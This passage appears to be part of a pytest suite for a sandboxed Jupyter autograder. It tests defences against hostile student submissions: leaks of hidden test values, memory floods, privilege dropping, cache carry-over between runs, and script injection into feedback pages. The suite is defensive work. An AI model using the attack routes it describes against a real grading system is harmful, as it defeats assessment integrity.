    assert graded["scores"]["pasted_library"] == {"ex1_tests": 0, "ex2_tests": 0, "ex3_tests": 0, "ex4_tests": 3}


def test_objects_named_by_the_box_are_never_rebuilt_so_nothing_of_the_class_is_deleted(graded):
    root = graded["root"]
    assert (root / "canary" / "keep.txt").read_text() == "canary"
    assert (root / "submitted" / "full" / LAB / f"{LAB}.ipynb").is_file()
    assert _total(graded, "full") == FULL and _total(graded, "half") == HALF, "the classmates' grades are kept"
    _, text = _autograded(graded, "gadgets", "ex2_tests")
    assert "your my_state_space returned an object of a type that does not cross the pipe" in text, text
    assert "PUT BACK" not in graded["run"].stderr, "the gradebook was never lost, so never restored"


def _hidden_cases(solution, gid):
    """The arguments of each hidden case of the test ``gid`` and the reference's results, from the solution's own
    hidden code run with a guard that only records them."""
    from fusionlab import falling_body, kalman
    from grading import cells

    [source] = [c.source for c in solution.cells if grade_id(c) == gid]
    seen = {}
    ns = {
        "np": np,
        "kf": kalman,
        "falling_body": falling_body,
        "my_predict": None,
        "my_state_space": None,
        "guard": type(
            "G",
            (),
            {
                "grade": staticmethod(
                    lambda student, ref, cases, **k: seen.update(cases=cases, expected=[ref(*c) for c in cases])
                )
            },
        ),
    }
    for hidden, code in cells.test_parts(source):
        if hidden:
            exec(code, ns)  # noqa: S102 -- the course's own test cell
    return seen["cases"], seen["expected"]


def _digits(values):
    """Five decimals of every value of ``values`` that is not 0 or 1 (those could be anywhere on a page)."""
    flat = np.concatenate([np.ravel(np.asarray(a, dtype=float)) for a in values])
    return {f"{abs(v):.5f}" for v in flat if round(abs(v), 5) not in (0.0, 1.0)}


def test_no_hidden_input_or_expected_value_reaches_the_feedback(graded):
    page = (graded["root"] / "feedback" / "leak_inputs" / LAB / f"{LAB}.html").read_text()
    text = html.unescape(re.sub(r"<[^>]+>", "", page))
    _, ex2 = _autograded(graded, "leak_inputs", "ex2_tests")
    _, ex3 = _autograded(graded, "leak_inputs", "ex3_tests")
    assert "exercise 2, hidden tests: wrong value" in ex2 and "expected" not in ex2, ex2
    assert "exercise 3, hidden tests: your function raised an error" in ex3 and "LEAKED (array" not in text, ex3
    cases3, expected3 = _hidden_cases(graded["solution"], "ex3_tests")
    cases2, expected2 = _hidden_cases(graded["solution"], "ex2_tests")
    numbers = _digits(cases3[0]) | _digits(expected3[0]) | _digits(cases2[0]) | _digits(expected2[0][:1])
    assert len(numbers) > 40
    assert sorted(n for n in numbers if n in text) == []


def test_a_flood_on_the_pipe_fails_its_test_and_costs_the_judge_no_memory(graded):
    _, text = _autograded(graded, "flood", "ex3_tests")
    assert "a reply over 16 MB" in text, text
    peak = int(re.search(r"peak memory of the grading process: (\d+) MB", graded["run"].stdout).group(1))
    assert 100 < peak < 1000, f"the grading process peaked at {peak} MB"


def test_the_judges_give_up_root_before_they_read_a_reply(graded):
    """As root, each student's judge runs as a user of its own slot (grading.launcher), never as root, and keeps no
    capability (where Python lies in root's home, the judge sees it through a view of its own)."""
    said = re.search(r"each student's judge ran as (.*)", graded["run"].stdout).group(1)
    if os.geteuid() != 0:
        assert said == "the grader's own user", said
        return
    users = [
        int(u)
        for u in re.fullmatch(r"user ([\d, ]+), not root \(grading.launcher starts the boxes\)", said)
        .group(1)
        .split(", ")
    ]
    assert users and set(users) <= {launcher.judge_uid(s) for s in range(sandbox.MAX_SLOTS)}, users
    assert "\n  with no capability\n" in graded["run"].stdout, "no capability kept, Python in root's home or not"


def test_a_class_run_starts_by_making_the_kernel_forget_what_earlier_runs_boxes_left(graded):
    """An outside review carried the first hidden input of Lab 02 from one run to the next: the hidden round's box
    looked up names that do not exist in numpy's folder, the next run's visible round timed them and raised an error
    that spelled the input in its verdict (the run says what it did; the forgetting itself:
    tests/test_launcher.py)."""
    out = graded["run"].stdout
    forgot = "the kernel forgot the names earlier runs' boxes looked up; every file a box can read was read again"
    if os.geteuid() != 0:
        assert "the names earlier runs' boxes looked up are NOT forgotten: " in out
        return
    assert forgot in out, out[:3000]
    assert out.index(forgot) < out.index("model solution: "), "before any box of the run"


def test_values_that_blow_up_in_the_tests_arithmetic_cost_only_their_own_judge_process(graded):
    """The judge of each student runs in a process of its own with a bounded address space: the 12.8 GB product
    fails that student's test at once, and neither the class's grading process nor a judge process grows."""
    _, text = _autograded(graded, "amplify", "ex2_tests")
    assert (
        "exercise 2, hidden tests: your result could not be used (the test's arithmetic on it ran out of memory)"
        in text
    ), text
    out = graded["run"].stdout
    child = int(
        re.search(r"of one student's judge process \(at most 3 GB of address space each\): (\d+) MB", out).group(1)
    )
    assert 100 < child < 1500, f"a judge process peaked at {child} MB"
    cpu = float(re.search(r"MB, ([\d.]+) s of CPU \(at most 120 s each\)", out).group(1))
    assert 0 < cpu < 60, f"a judge process used {cpu} s of CPU"


def test_nothing_of_a_student_runs_in_formgrader_or_the_feedback_page(graded):
    """The autograded notebook keeps a student's written answer and outputs as text: Formgrader's own exporter and
    the feedback page show the words, and no tag or script of theirs."""
    from nbconvert import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers

    path = graded["root"] / "autograded" / "xss" / LAB / f"{LAB}.ipynb"
    formgrade = HTMLExporter(template_name="formgrade", extra_template_basedirs=[handlers.template_path])
    shown = {
        "assignment_id": LAB,
        "notebook_id": LAB,
        "submission_id": "1",
        "index": 0,
        "total": 1,
        "base_url": "",
        "student": "xss",
        "last_name": "",
        "first_name": "",
        "notebook_path": str(path),
    }  # as Formgrader gives
    pages = {
        "Formgrader": formgrade.from_filename(str(path), resources=shown)[0],
        "feedback": (graded["root"] / "feedback" / "xss" / LAB / f"{LAB}.html").read_text(),
    }
    for where, page in pages.items():
        assert "My answer" in page and "a plot" in page, where
        assert [m for m in XSS_MARKS if m in page] == [], where


def test_the_key_store_carries_nothing_from_one_box_to_the_next(graded):
    assert graded["scores"]["keyring"]["ex3_tests"] == 0
    assert _processes_with(MARKER) == []
